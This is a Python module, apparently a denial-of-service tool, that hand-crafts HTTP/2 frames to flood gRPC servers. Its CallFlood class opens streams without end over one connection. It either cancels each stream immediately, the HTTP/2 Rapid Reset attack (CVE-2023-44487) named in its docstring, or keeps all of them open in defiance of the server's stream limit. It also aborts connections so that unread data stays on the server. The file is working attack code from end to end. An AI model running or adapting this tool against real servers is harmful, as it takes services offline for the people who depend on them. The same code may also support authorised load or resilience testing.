"""HTTP/2 as an attacker speaks it: frames by hand, as many and as fast as the socket takes them."""
import socket
import struct

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0, 1, 3, 4, 6, 7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 8


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    """A header field of HPACK, neither indexed nor compressed."""
    return b"\0" + _field(name, value)


def _field(name, value):
    return bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def call_headers(path, authority, metadata=()):
    return [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority),
            ("content-type", "application/grpc"), ("te", "trailers"), *metadata]


class CallFlood:
    """One connection that opens calls without end, of which each takes no more than 28 bytes.

    `reset`: each is cancelled at once (CVE-2023-44487). Otherwise all of them stay open, whatever limit the server has told.
    """

    def __init__(self, address, path, reset, tls=None, metadata=()):
        host, port = address.rsplit(":", 1)
        self._reset = reset
        self._stream = 1
        # One that is kept waiting is given up for another.
        self._socket = socket.create_connection((host, int(port)), timeout=1)
        if tls is not None:
            self._socket = tls.wrap_socket(self._socket, server_hostname=host)
        fields = call_headers(path, address, metadata)
        remembered = b"".join(b"\x40" + _field(*field) for field in fields)
        # Each goes to the front of the table, whose first entry is number 62.
        self._headers = bytes(0x80 | 62 + i for i in range(len(fields)))
        self._socket.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, self._stream, remembered))

    def open_calls(self, count):
        """Raises OSError once the server has ended the connection."""
        pieces = []
        for _ in range(count):
            self._stream += 2
            pieces.append(frame(HEADERS, END_HEADERS, self._stream, self._headers))
            if self._reset:
                pieces.append(frame(RST_STREAM, 0, self._stream, struct.pack(">I", CANCEL)))
        self._socket.sendall(b"".join(pieces))

    def hang_up(self):
        """At once: what has arrived and was not read stays at the server, which is not told good-bye."""
        self._socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        self._socket.close()

    def close(self):
        self._socket.close()
